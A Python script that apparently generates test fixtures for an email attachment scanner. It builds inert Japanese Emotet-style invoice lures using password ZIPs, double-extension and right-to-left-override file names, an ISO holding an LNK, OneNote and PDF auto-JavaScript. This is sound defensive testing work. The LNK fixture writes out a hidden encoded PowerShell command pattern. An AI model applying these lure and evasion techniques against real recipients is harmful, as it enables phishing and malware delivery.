#!/usr/bin/env python3
"""gen-attach-fixtures.py - write the attachment fixtures of emguard scan.

usage: gen-attach-fixtures.py OUTDIR

Writes one inert .eml file per fixture (a few are bare files, scanned as a
single attachment) into OUTDIR, and OUTDIR/expect.tsv, which
tests/golden-attach.sh checks under tests/golden-attach/emguard-test.conf.
expect.tsv columns:

    file  must  must_not  action  args  volatile

must / must_not: comma-separated symbols ("-" for none).  An entry with a
dot is a category (attach.lnk) and matches a finding of that category; a
trailing * matches a prefix of a symbol or a category (ATTACH_*, attach.*).
action: the verdict the fixture must get, "-" when the test does not care
(attacks whose total depends on tuned scores).  args: extra `emguard scan`
options ("-" for none).  volatile: names of attachment-tree nodes whose
bytes differ from run to run or between zlib builds ("-" for none); the
golden comparison drops their sha256 and size.  Why they vary:
  - `zip -P` (Info-ZIP) writes a random 12-byte ZipCrypto header;
  - 7z's AES mode writes a random salt and IV;
  - genisoimage stamps the volume with the current time;
  - archives deflated here with Python's zlib (.tar.gz, the padded member)
    come out differently under another zlib (zlib-ng); small archives
    built here are therefore STORED, which is byte-exact everywhere.
Everything else is deterministic: fixed dates, boundaries, Message-IDs,
member times (TZ=UTC, os.utime, zip -X), no randomness, no clock.

A fixture whose tool is missing (zip, 7z, genisoimage or xorriso) is not
written; expect.tsv gets a line "#skip<TAB>FILE<TAB>reason" instead and the
test skips it.

Everything is inert: .test / .invalid domains, 192.0.2.0/24 and
203.0.113.0/24 addresses, PE files that are a header and nothing else,
scripts that print "test", an LNK whose target is `cmd.exe /c echo`.
The LNK and OneNote builders are tests/gen-lnk.py's and
tests/gen-onenote.py's.  Python 3 standard library only.
"""

import base64
import gzip
import hashlib
import importlib.util
import io
import os
import shutil
import struct
import subprocess
import sys
import tarfile
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))

# ---- expectations: symbols of lib/attach.c, lib/active.c, lib/scan.c -------
OPENED = "ATTACH_ENCRYPTED_ARCHIVE_OPENED"
ENCRYPTED = "ATTACH_ENCRYPTED_ARCHIVE"
PAYLOAD = "ATTACH_ENCRYPTED_PAYLOAD"  # dangerous member of an opened one
EXECUTABLE = "ATTACH_EXECUTABLE"      # PE / ELF / Mach-O, .exe .com .dll
SCRIPT = "ATTACH_SCRIPT"              # .js .vbs .hta .ps1 ... name or content
DOUBLE_EXT = "ATTACH_DOUBLE_EXTENSION"
RTLO = "ATTACH_RTLO"
MISMATCH = "ATTACH_TYPE_MISMATCH"
LNK = "ATTACH_LNK"
LNK_SUSPICIOUS = "ATTACH_LNK_SUSPICIOUS"  # starts a shell or downloader
DISK_IMAGE = "ATTACH_DISK_IMAGE"
ONENOTE = "ATTACH_ONENOTE_EMBEDDED"
NESTED = "ATTACH_NESTED_ARCHIVE"
INFLATED = "ATTACH_INFLATED"
UNSCANNABLE = "ATTACH_UNSCANNABLE"
ANY_EXECUTABLE = "attach.executable"
PDF_AUTO_JS = "ACTIVE_PDF_AUTO_JAVASCRIPT"
RTF_EQUATION = "ACTIVE_RTF_EQUATION"
HTML_FORM = "ACTIVE_HTML_CREDENTIAL_FORM"
SMUGGLING = "ACTIVE_HTML_SMUGGLING"
ACTIVE = "attach.active_content"
ANY_ATTACH = "attach.*"
MACRO = "OFFICE_MACRO"                    # a VBA project
MACRO_AUTOEXEC = "OFFICE_MACRO_AUTOEXEC"  # the mraptor rule
AUTOEXEC_ENCRYPTED = "OFFICE_AUTOEXEC_ENCRYPTED"  # ... in an opened box
TEMPLATE = "OFFICE_TEMPLATE_INJECTION"
DDE = "OFFICE_DDE"

MX = "mx.example-corp.test"
RCPT = "yamada@example-corp.test"
PW = "Xk92Lm"           # the Emotet-style password written in the mail
FIXED_TIME = 1705280400  # 2024-01-15 01:00:00 UTC = 10:00 JST
ZIP_TIME = (2024, 1, 15, 10, 0, 0)

FIXTURES = []


class Skip(Exception):
    """A tool the fixture needs is not installed."""


def fixture(must=(), must_not=(), action="-", args=(), ext=".eml"):
    """Register the decorated function as fixture NAME (its name with _
    turned into -).  It returns the file's bytes, or (bytes, volatile
    node names).  Its docstring says what the fixture proves."""

    def register(fn):
        FIXTURES.append({"name": fn.__name__.replace("_", "-") + ext,
                         "build": fn, "must": list(must),
                         "must_not": list(must_not), "action": action,
                         "args": list(args)})
        return fn

    return register


# ---- mail assembly ---------------------------------------------------------

def ew(text, charset="UTF-8"):
    """One RFC 2047 B encoded-word."""
    raw = text.encode("utf-8")
    return "=?%s?B?%s?=" % (charset, base64.b64encode(raw).decode("ascii"))


def pct2231(text):
    """TEXT as an RFC 2231 extended value (UTF-8, percent-encoded)."""
    safe = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.-_"
    return "UTF-8''" + "".join(chr(c) if c in safe else "%%%02X" % c
                                for c in text.encode("utf-8"))


def b64_lines(data, width=76):
    enc = base64.b64encode(data).decode("ascii")
    return "".join(enc[i:i + width] + "\n" for i in range(0, len(enc), width))


def date(n):
    return "Mon, 15 Jan 2024 %02d:%02d:00 +0900" % (10 + n // 60, n % 60)


def attachment(data, ctype, name, mode="2231", disp="attachment"):
    """One attachment part.  MODE says how NAME is written: "plain"
    (quoted as is, must be ASCII), "2231" (filename*=), "2047"
    (encoded-word in name= and filename=, as Outlook does)."""
    if mode == "plain":
        ct = '%s; name="%s"' % (ctype, name)
        cd = '%s; filename="%s"' % (disp, name)
    elif mode == "2231":
        ct = "%s; name*=%s" % (ctype, pct2231(name))
        cd = "%s; filename*=%s" % (disp, pct2231(name))
    else:
        ct = '%s; name="%s"' % (ctype, ew(name))
        cd = '%s; filename="%s"' % (disp, ew(name))
    return ("Content-Type: %s\nContent-Disposition: %s\n"
            "Content-Transfer-Encoding: base64\n\n%s" % (ct, cd, b64_lines(data)))


def text_part(body, ctype="text/plain; charset=UTF-8"):
    return ("Content-Type: %s\nContent-Transfer-Encoding: 8bit\n\n%s"
            % (ctype, body if body.endswith("\n") else body + "\n"))


def mail(n, from_, subject, parts, ip="203.0.113.50", helo=None,
         authres=False):
    """Assemble message N: multipart/mixed of PARTS (strings from
    text_part / attachment), From FROM_ (header value), SUBJECT (str,
    encoded-word when not ASCII), a Received line from client IP into our
    MX, and our MX's Authentication-Results (all pass) when AUTHRES."""
    addr = from_[from_.rindex("<") + 1:from_.rindex(">")]
    dom = addr.split("@")[1]
    bnd = "=_emguard_attach_%04d" % n
    if not subject.isascii():
        subject = ew(subject)
    hdrs = [("Return-Path", "<%s>" % addr), ("Delivered-To", RCPT)]
    if authres:
        hdrs.append(("Authentication-Results",
                     "%s;\n\tspf=pass smtp.mailfrom=%s;\n\tdkim=pass header.d=%s"
                     " header.s=sel1;\n\tdmarc=pass (p=reject dis=none) "
                     "header.from=%s" % (MX, dom, dom, dom)))
    hdrs += [
        ("Received", "from %s (%s [%s])\n\tby %s (Postfix) with ESMTPS id "
         "4TA%04dX\n\tfor <%s>; %s" % (helo or "mail." + dom, helo or "mail." + dom,
                                        ip, MX, n, RCPT, date(n))),
        ("From", from_), ("To", "%s <%s>" % (ew("山田太郎"), RCPT)),
        ("Subject", subject), ("Date", date(n)),
        ("Message-ID", "<attach-%04d@%s>" % (n, dom)),
        ("MIME-Version", "1.0"),
        ("Content-Type", 'multipart/mixed; boundary="%s"' % bnd),
    ]
    out = "".join("%s: %s\n" % h for h in hdrs) + "\n"
    out += "This is a multi-part message in MIME format.\n\n"
    for p in parts:
        out += "--%s\n%s" % (bnd, p)
    out += "--%s--\n" % bnd
    return out.encode("utf-8")


STRANGER = "%s <keiri@trading-co.invalid>" % ew("株式会社トレーディング 経理部")
PARTNER = "%s <sato@partner.test>" % ew("佐藤花子")


def lure(n, subject, body, parts, **kw):
    """An Emotet-style message from a stranger."""
    return mail(n, STRANGER, subject, [text_part(body)] + list(parts), **kw)


def partner(n, subject, body, parts):
    """A message from the authenticated partner (clean cases)."""
    return mail(n, PARTNER, subject, [text_part(body)] + list(parts),
                ip="192.0.2.22", authres=True)


# ---- inert payloads --------------------------------------------------------

def pe_stub():
    """A PE32 header and nothing else: "MZ", e_lfanew, "PE\\0\\0", a COFF
    header with no sections and an optional header.  Nothing to run."""
    dos = bytearray(64)
    dos[0:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3C, 0x40)
    coff = struct.pack("<HHIIIHH", 0x14C, 0, 0x5F5E1000, 0, 0, 0xE0, 0x0102)
    opt = bytearray(0xE0)
    struct.pack_into("<H", opt, 0, 0x10B)        # PE32
    struct.pack_into("<III", opt, 28, 0x400000, 0x1000, 0x200)
    struct.pack_into("<H", opt, 40, 4)           # OS version
    struct.pack_into("<H", opt, 48, 4)           # subsystem version
    struct.pack_into("<H", opt, 68, 3)           # console
    return bytes(dos) + b"PE\0\0" + coff + bytes(opt)


JS = b'WScript.Echo("test");\r\n'
VBS = b'WScript.Echo "test"\r\n'
PS1 = b'Write-Output "test"\r\n'
HTA = (b'<html><head><title>test</title>\r\n'
       b'<HTA:APPLICATION ID="test" APPLICATIONNAME="test">\r\n'
       b'<script language="VBScript">MsgBox "test"</script>\r\n'
       b'</head><body>test</body></html>\r\n')


def pdf(objects):
    """A small well-formed PDF of OBJECTS (bodies of objects 1..n, object 1
    the catalog), with a correct xref table."""
    out = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    offs = []
    for i, body in enumerate(objects, 1):
        offs.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (i, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offs)
    out += (b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
            % (len(objects) + 1, xref))
    return out


def plain_pdf(title):
    text = b"BT /F1 12 Tf 20 100 Td (" + title + b") Tj ET"
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] "
                b"/Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
                b"<< /Length %d >>\nstream\n%s\nendstream" % (len(text), text),
                b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"])


def ole1_equation():
    """RTF \\objdata: an OLE1 embedded-object header of class Equation.3
    and 16 zero bytes of data (no equation, no exploit)."""
    cls = b"Equation.3\0"
    data = bytes(16)
    return (struct.pack("<II", 0x0501, 2) + struct.pack("<I", len(cls)) + cls
            + struct.pack("<II", 0, 0) + struct.pack("<I", len(data)) + data)


def load_module(fname, modname):
    spec = importlib.util.spec_from_file_location(modname,
                                                  os.path.join(HERE, fname))
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    return mod


def lnk_lure():
    """A shortcut to cmd.exe whose arguments look like an LNK lure's
    (`/c echo test & powershell -enc AAAA`: prints "test", AAAA decodes to
    nothing runnable) with a PDF icon, built by tests/gen-lnk.py."""
    g = load_module("gen-lnk.py", "gen_lnk")
    return g.shortcut(
        volume="C:\\", items=("Windows", "System32", "cmd.exe"), show=7,
        strings=g.args("/c echo test & powershell -nop -w hidden -enc AAAA",
                       "C:\\Program Files\\Adobe\\Acrobat\\Acrobat.exe,0",
                       g.SYS32, "請求書"))


def onenote_section(embedded):
    """A OneNote section (MS-ONESTORE) with one FileDataStoreObject per
    EMBEDDED file, built by tests/gen-onenote.py."""
    g = load_module("gen-onenote.py", "gen_onenote")
    return g.header() + g.FILLER + b"".join(g.fdso(d) for d in embedded) \
        + g.FILLER


# ---- archives --------------------------------------------------------------

def zip_stored(members):
    """A ZIP of MEMBERS [(name, bytes)] built here, STORED, fixed times."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in members:
            zi = zipfile.ZipInfo(name, ZIP_TIME)
            zi.external_attr = 0o644 << 16
            z.writestr(zi, data)
    return buf.getvalue()


class Cp932ZipInfo(zipfile.ZipInfo):
    """A member whose name is stored in CP932 without the UTF-8 flag, as
    Japanese Windows' Explorer writes it."""

    def _encodeFilenameFlags(self):
        return self.filename.encode("cp932"), self.flag_bits & ~0x800


def have(tool):
    return shutil.which(tool) is not None


class Work:
    """A scratch directory under OUTDIR for the external tools."""

    root = None

    @classmethod
    def dir(cls, name):
        d = os.path.join(cls.root, name)
        shutil.rmtree(d, ignore_errors=True)
        os.makedirs(d)
        return d


def tool_archive(name, members, cmd):
    """Write MEMBERS [(name, bytes)] into a scratch directory with fixed
    times, run CMD (list; "OUT" is replaced by the archive path, "FILES" by
    the member names) there with TZ=UTC, and return the archive bytes."""
    d = Work.dir(name)
    names = []
    for mname, data in members:
        p = os.path.join(d, mname)
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, "wb") as fp:
            fp.write(data)
        os.utime(p, (FIXED_TIME, FIXED_TIME))
        names.append(mname)
    out = os.path.join("..", name + ".out")  # relative to D: no blanks
    argv = []
    for a in cmd:
        if a == "FILES":
            argv += names
        else:
            argv.append(a.replace("OUT", out))
    env = dict(os.environ, TZ="UTC", LC_ALL="C.UTF-8")
    subprocess.run(argv, cwd=d, env=env, check=True, stdout=subprocess.DEVNULL,
                   stderr=subprocess.PIPE)
    out = os.path.join(d, out)
    with open(out, "rb") as fp:
        data = fp.read()
    os.remove(out)
    shutil.rmtree(d)
    return data


def zipcrypto(name, members, password):
    if not have("zip"):
        raise Skip("zip not installed")
    return tool_archive(name, members, ["zip", "-q", "-X", "-P", password,
                                        "OUT", "FILES"])


def zip_aes256(name, members, password):
    if not have("7z"):
        raise Skip("7z (p7zip-full) not installed")
    return tool_archive(name, members, ["7z", "a", "-bd", "-y", "-tzip",
                                        "-mem=AES256", "-p" + password, "OUT",
                                        "FILES"])


def iso_image(name, members):
    """An ISO 9660 image with Joliet and Rock Ridge names."""
    if have("genisoimage"):
        cmd = ["genisoimage", "-quiet", "-input-charset", "utf-8", "-J", "-R",
               "-V", "INVOICE", "-no-pad", "-o", "OUT", "."]
    elif have("xorriso"):
        cmd = ["xorriso", "-as", "mkisofs", "-quiet", "-J", "-R", "-V",
               "INVOICE", "-o", "OUT", "."]
    else:
        raise Skip("neither genisoimage nor xorriso installed")
    return tool_archive(name, members, cmd)


def tar_gz(members):
    """A .tar.gz built here: ustar, fixed owner and times, gzip mtime 0."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size, ti.mtime, ti.mode = len(data), FIXED_TIME, 0o644
            ti.uname = ti.gname = "user"
            t.addfile(ti, io.BytesIO(data))
    out = io.BytesIO()
    with gzip.GzipFile(filename="", fileobj=out, mode="wb", mtime=0) as g:
        g.write(raw.getvalue())
    return out.getvalue()


def padded_doc_zip(name, total):
    """A ZIP holding NAME: 4 KiB of document-like bytes (an OLE2 signature
    and deterministic filler), then zeros up to TOTAL bytes.  Deflated by
    streaming 1 MiB chunks, so TOTAL never sits in memory."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + b"\x3e\x00\x03\x00"
    seed = b"emguard inflated test"
    while len(head) < 4096:
        seed = hashlib.sha256(seed).digest()
        head += seed
    head = head[:4096]
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        zi = zipfile.ZipInfo(name, ZIP_TIME)
        zi.compress_type = zipfile.ZIP_DEFLATED
        zi.external_attr = 0o644 << 16
        with z.open(zi, "w", force_zip64=total >= 0xFFFFFFFF) as fp:
            fp.write(head)
            left = total - len(head)
            chunk = bytes(1 << 20)
            while left > 0:
                fp.write(chunk[:min(left, len(chunk))])
                left -= min(left, len(chunk))
    return buf.getvalue()


# ---- encrypted archives and the password in the mail ----------------------

INVOICE_JS = ("invoice_20240115.js", JS)
BODY_HEAD = ("山田様\n\nいつもお世話になっております。\n"
             "1月分の請求書を添付いたしますので、ご確認をお願いいたします。\n\n")
BODY_TAIL = "\nよろしくお願いいたします。\n\n株式会社トレーディング 経理部\n"


@fixture(must=[OPENED, SCRIPT, PAYLOAD], must_not=[ENCRYPTED])
def emotet_zipcrypto_pw_body(n=1):
    """Emotet's trick: a ZipCrypto ZIP, password in the body after
    パスワード：.  The archive must be opened and the .js inside seen."""
    z = zipcrypto("emotet-zipcrypto", [INVOICE_JS], PW)
    body = BODY_HEAD + "添付ファイルのパスワード：%s\n" % PW + BODY_TAIL
    return lure(n, "請求書の送付", body,
                [attachment(z, "application/zip", "請求書_20240115.zip")]), \
        ["請求書_20240115.zip"]


@fixture(must=[OPENED, SCRIPT, PAYLOAD], must_not=[ENCRYPTED])
def emotet_aes256_pw_body(n=2):
    """The same with AES-256 (7z -mem=AES256): the AES key derivation path
    of the candidate search."""
    z = zip_aes256("emotet-aes256", [INVOICE_JS], PW)
    body = BODY_HEAD + "添付ファイルのパスワード：%s\n" % PW + BODY_TAIL
    return lure(n, "請求書の送付", body,
                [attachment(z, "application/zip", "請求書_20240115.zip")]), \
        ["請求書_20240115.zip"]


@fixture(must=[OPENED, SCRIPT, PAYLOAD], must_not=[ENCRYPTED])
def emotet_pw_next_line(n=3):
    """The password alone on the line after the パスワード label."""
    z = zipcrypto("emotet-next-line", [INVOICE_JS], PW)
    body = (BODY_HEAD + "解凍用のパスワードは以下のとおりです。\nパスワード\n"
            "%s\n" % PW + BODY_TAIL)
    return lure(n, "請求書の送付", body,
                [attachment(z, "application/zip", "請求書_20240115.zip")]), \
        ["請求書_20240115.zip"]


@fixture(must=[OPENED, SCRIPT, PAYLOAD], must_not=[ENCRYPTED])
def emotet_pw_fullwidth(n=4):
    """Full-width ｐａｓｓ：Ｘｋ９２Ｌｍ: NFKC gives pass:Xk92Lm."""
    z = zipcrypto("emotet-fullwidth", [INVOICE_JS], PW)
    fw = "".join(chr(ord(c) + 0xFEE0) for c in PW)
    body = BODY_HEAD + "ｐａｓｓ：%s\n" % fw + BODY_TAIL
    return lure(n, "請求書の送付", body,
                [attachment(z, "application/zip", "請求書_20240115.zip")]), \
        ["請求書_20240115.zip"]


@fixture(must=[OPENED, SCRIPT, PAYLOAD], must_not=[ENCRYPTED])
def emotet_pw_subject(n=5):
    """The password only in the Subject (RFC 2047 encoded); the body just
    points to it."""
    z = zipcrypto("emotet-subject", [INVOICE_JS], PW)
    body = BODY_HEAD + "解凍方法は件名をご覧ください。\n" + BODY_TAIL
    return lure(n, "請求書の送付 パスワード：%s" % PW, body,
                [attachment(z, "application/zip", "請求書_20240115.zip")]), \
        ["請求書_20240115.zip"]


@fixture(must=[OPENED, SCRIPT, PAYLOAD], must_not=[ENCRYPTED])
def zip_partly_encrypted(n=6):
    """A ZIP with a plain readme.txt and an encrypted .js (ZipCrypto),
    password in the body: the encrypted member is opened too."""
    if not have("zip"):
        raise Skip("zip not installed")
    z = tool_archive("partly", [("readme.txt", b"Please read the invoice.\r\n"),
                                INVOICE_JS],
                     ["sh", "-c", 'zip -q -X OUT readme.txt && '
                      'zip -q -X -P %s OUT invoice_20240115.js' % PW])
    body = BODY_HEAD + "パスワード：%s\n" % PW + BODY_TAIL
    return lure(n, "請求書の送付", body,
                [attachment(z, "application/zip", "invoice.zip")]), ["invoice.zip"]


@fixture(must=[ENCRYPTED], must_not=[OPENED])
def zip_encrypted_no_password(n=7):
    """An encrypted ZIP and no password in the mail (nor in the configured
    list): it stays closed and says so."""
    z = zipcrypto("no-password", [INVOICE_JS], "Qr7vT3pz")
    body = BODY_HEAD + "パスワードは別途お送りいたします。\n" + BODY_TAIL
    return lure(n, "請求書の送付", body,
                [attachment(z, "application/zip", "請求書_20240115.zip")]), \
        ["請求書_20240115.zip"]


@fixture(must=[OPENED],
         must_not=[ENCRYPTED, PAYLOAD, ANY_EXECUTABLE, MISMATCH, DOUBLE_EXT,
                   UNSCANNABLE, ACTIVE], action="accept")
def ppap_partner_pdfs(n=8):
    """Japanese PPAP: the authenticated partner sends a password ZIP of two
    PDFs, password in the body.  Opened, clean: must stay accept."""
    z = zipcrypto("ppap", [("mitsumori.pdf", plain_pdf(b"Quotation 2024-001")),
                           ("shiyousho.pdf", plain_pdf(b"Specification v1"))],
                  "pt2024jan")
    body = ("山田様\n\nいつもお世話になっております。パートナーの佐藤です。\n"
            "お見積書と仕様書をお送りいたします。\n\n"
            "パスワード：pt2024jan\n\nよろしくお願いいたします。\n")
    return partner(n, "お見積書送付の件",
                   body, [attachment(z, "application/zip", "見積書.zip")]), \
        ["見積書.zip"]


# ---- executables, names ----------------------------------------------------

@fixture(must=[EXECUTABLE, SCRIPT])
def zip_exe_and_js(n=9):
    """A plain ZIP holding a PE stub and a .js text: both members are
    walked and named in the details."""
    z = zip_stored([("setup.exe", pe_stub()), ("readme.js", JS)])
    return lure(n, "資料送付", BODY_HEAD + BODY_TAIL,
                [attachment(z, "application/zip", "documents.zip")])


@fixture(must=[DOUBLE_EXT, EXECUTABLE])
def double_ext_invoice(n=10):
    """invoice.pdf.exe (a PE stub), plain ASCII name."""
    return lure(n, "Invoice", BODY_HEAD + BODY_TAIL,
                [attachment(pe_stub(), "application/octet-stream",
                            "invoice.pdf.exe", mode="plain")])


@fixture(must=[DOUBLE_EXT, EXECUTABLE])
def double_ext_japanese(n=11):
    """請求書.pdf.exe, the name an RFC 2047 encoded-word."""
    return lure(n, "請求書", BODY_HEAD + BODY_TAIL,
                [attachment(pe_stub(), "application/octet-stream",
                            "請求書.pdf.exe", mode="2047")])


@fixture(must=[DOUBLE_EXT, EXECUTABLE])
def double_ext_padded(n=12):
    """Blanks before the last extension hide it in a narrow column:
    "invoice.pdf<30 blanks>.exe"."""
    return lure(n, "Invoice", BODY_HEAD + BODY_TAIL,
                [attachment(pe_stub(), "application/octet-stream",
                            "invoice.pdf" + " " * 30 + ".exe", mode="plain")])


RTLO_NAME = "請求書_\u202Efdp.exe"  # shows as 請求書_exe.pdf


@fixture(must=[RTLO, EXECUTABLE])
def rtlo_rfc2231(n=13):
    """U+202E (RIGHT-TO-LEFT OVERRIDE) in an RFC 2231 encoded name."""
    return lure(n, "請求書", BODY_HEAD + BODY_TAIL,
                [attachment(pe_stub(), "application/octet-stream", RTLO_NAME,
                            mode="2231")])


@fixture(must=[RTLO, EXECUTABLE])
def rtlo_rfc2047(n=14):
    """U+202E in an RFC 2047 encoded name."""
    return lure(n, "請求書", BODY_HEAD + BODY_TAIL,
                [attachment(pe_stub(), "application/octet-stream", RTLO_NAME,
                            mode="2047")])


@fixture(must=[MISMATCH, EXECUTABLE])
def mismatch_pe_as_pdf(n=15):
    """A PE stub named 見積書.pdf and declared application/pdf."""
    return lure(n, "見積書", BODY_HEAD + BODY_TAIL,
                [attachment(pe_stub(), "application/pdf", "見積書.pdf")])


@fixture(must_not=[ANY_ATTACH], action="accept")
def mismatch_harmless(n=16):
    """Disagreements that are normal and must not fire: a PDF declared
    application/octet-stream, a CSV that libmagic calls text/plain, a
    Shift_JIS text declared with its charset."""
    csv = "品番,数量\r\nA-100,3\r\n".encode("utf-8")
    sjis = "打ち合わせメモ\r\n議事録を送付します。\r\n".encode("cp932")
    return partner(n, "資料送付", "山田様\n\n資料をお送りします。\n佐藤\n", [
        attachment(plain_pdf(b"Minutes"), "application/octet-stream",
                   "議事録.pdf"),
        attachment(csv, "text/csv", "order.csv", mode="plain"),
        attachment(sjis, "text/plain; charset=Shift_JIS", "memo.txt",
                   mode="plain")])


def docx():
    """A minimal OOXML word document (no macro)."""
    ct = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
          b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
          b'content-types"><Default Extension="rels" ContentType="application/'
          b'vnd.openxmlformats-package.relationships+xml"/><Default '
          b'Extension="xml" ContentType="application/xml"/><Override '
          b'PartName="/word/document.xml" ContentType="application/'
          b'vnd.openxmlformats-officedocument.wordprocessingml.document.main'
          b'+xml"/></Types>')
    rels = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/'
            b'2006/relationships"><Relationship Id="rId1" Type="http://'
            b'schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'officeDocument" Target="word/document.xml"/></Relationships>')
    doc = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
           b'<w:document xmlns:w="http://schemas.openxmlformats.org/'
           b'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>test</w:t>'
           b'</w:r></w:p></w:body></w:document>')
    return zip_stored([("[Content_Types].xml", ct), ("_rels/.rels", rels),
                       ("word/document.xml", doc)])


@fixture(must_not=[MISMATCH, NESTED, ANY_EXECUTABLE], action="accept")
def mismatch_docx_as_zip(n=17):
    """A .docx declared application/zip: OOXML is a ZIP, no mismatch."""
    return partner(n, "報告書", "山田様\n\n報告書をお送りします。\n佐藤\n",
                   [attachment(docx(), "application/zip", "報告書.docx")])


@fixture(must=[EXECUTABLE], must_not=[MISMATCH])
def zip_sjis_member_name(n=18):
    """A ZIP from Japanese Windows: the member 請求書.exe named in CP932
    without the UTF-8 flag; the tree and the detail show it decoded."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        zi = Cp932ZipInfo("請求書.exe", ZIP_TIME)
        zi.external_attr = 0o644 << 16
        z.writestr(zi, pe_stub())
    return lure(n, "請求書", BODY_HEAD + BODY_TAIL,
                [attachment(buf.getvalue(), "application/zip", "請求書.zip")])


# ---- LNK, disk images, OneNote ---------------------------------------------

@fixture(must=[DISK_IMAGE, LNK, LNK_SUSPICIOUS])
def iso_with_lnk(n=19):
    """The classic: an ISO holding 請求書.lnk (cmd.exe /c echo ... -enc
    AAAA); the image is opened and the LNK target is in the detail."""
    iso = iso_image("iso-lnk", [("請求書.lnk", lnk_lure())])
    return lure(n, "請求書", BODY_HEAD + BODY_TAIL,
                [attachment(iso, "application/octet-stream", "請求書.iso")]), \
        ["請求書.iso"]


@fixture(must=[LNK, LNK_SUSPICIOUS])
def lnk_bare(n=20):
    """The same shortcut attached directly."""
    return lure(n, "請求書", BODY_HEAD + BODY_TAIL,
                [attachment(lnk_lure(), "application/octet-stream",
                            "請求書.pdf.lnk")])


@fixture(must=[DISK_IMAGE, LNK, LNK_SUSPICIOUS], ext=".iso")
def file_iso_with_lnk():
    """Not a mail: the bare ISO file, as a responder takes it from a
    share; `emguard scan` scans it as a single attachment."""
    return iso_image("file-iso", [("請求書.lnk", lnk_lure())]), \
        ["file-iso-with-lnk.iso"]


@fixture(must=[ONENOTE, SCRIPT])
def onenote_hta(n=21):
    """A OneNote section with one embedded file, an .hta text (MsgBox
    "test"): the section is opened and the HTA seen by content."""
    one = onenote_section([HTA])
    return lure(n, "請求書", BODY_HEAD + BODY_TAIL,
                [attachment(one, "application/octet-stream", "請求書.one")])


# ---- nesting, other archive formats, limits --------------------------------

@fixture(must=[NESTED, SCRIPT])
def zip_in_zip(n=22):
    """outer.zip / inner.zip / invoice.js: the walker goes down two
    levels."""
    inner = zip_stored([INVOICE_JS])
    outer = zip_stored([("inner.zip", inner), ("readme.txt", b"see inner\r\n")])
    return lure(n, "請求書", BODY_HEAD + BODY_TAIL,
                [attachment(outer, "application/zip", "outer.zip")])


@fixture(must=[SCRIPT])
def sevenzip_vbs(n=23):
    """A 7z archive holding a .vbs (WScript.Echo "test")."""
    if not have("7z"):
        raise Skip("7z (p7zip-full) not installed")
    a = tool_archive("sevenzip", [("invoice.vbs", VBS)],
                     ["7z", "a", "-bd", "-y", "-t7z", "-mtc=off", "-mta=off",
                      "OUT", "FILES"])
    return lure(n, "請求書", BODY_HEAD + BODY_TAIL,
                [attachment(a, "application/x-7z-compressed", "invoice.7z")])


@fixture(must=[SCRIPT])
def targz_ps1(n=24):
    """A .tar.gz holding a .ps1 (Write-Output "test")."""
    a = tar_gz([("docs/invoice.ps1", PS1), ("docs/readme.txt", b"test\n")])
    return lure(n, "請求書", BODY_HEAD + BODY_TAIL,
                [attachment(a, "application/gzip", "invoice.tar.gz")]), \
        ["invoice.tar.gz"]


@fixture(must=[INFLATED], must_not=[UNSCANNABLE])
def inflated_doc(n=25):
    """Emotet 2023: a 200 MB .doc that is 4 KiB of content and zeros, in a
    small ZIP.  The padding is dropped and the head scanned."""
    z = padded_doc_zip("請求書.doc", 200 * 1000 * 1000)
    return lure(n, "請求書", BODY_HEAD + BODY_TAIL,
                [attachment(z, "application/zip", "請求書.zip")]), \
        ["請求書.zip"]


@fixture(must=[UNSCANNABLE, NESTED])
def depth_bomb(n=26):
    """Seven ZIPs inside each other (level1.zip holds level2.zip ...
    level7.zip holds bottom.txt): past LimitArchiveDepth 4 the walker
    stops and says so."""
    z, name = b"bottom\r\n", "bottom.txt"
    for level in range(7, 0, -1):
        z, name = zip_stored([(name, z)]), "level%d.zip" % level
    return lure(n, "資料", BODY_HEAD + BODY_TAIL,
                [attachment(z, "application/zip", name)])


# ---- active content --------------------------------------------------------

@fixture(must=[PDF_AUTO_JS])
def pdf_openaction_js(n=27):
    """A PDF whose /OpenAction runs /JavaScript (app.alert("test"))."""
    p = pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
             b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
             b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
             b"<< /Type /Action /S /JavaScript /JS (app.alert\\(\"test\"\\);) >>"])
    return lure(n, "請求書", BODY_HEAD + BODY_TAIL,
                [attachment(p, "application/pdf", "請求書.pdf")])


@fixture(must=[RTF_EQUATION])
def rtf_equation_objdata(n=28):
    """An RTF with an embedded OLE object of class Equation.3 (\\object
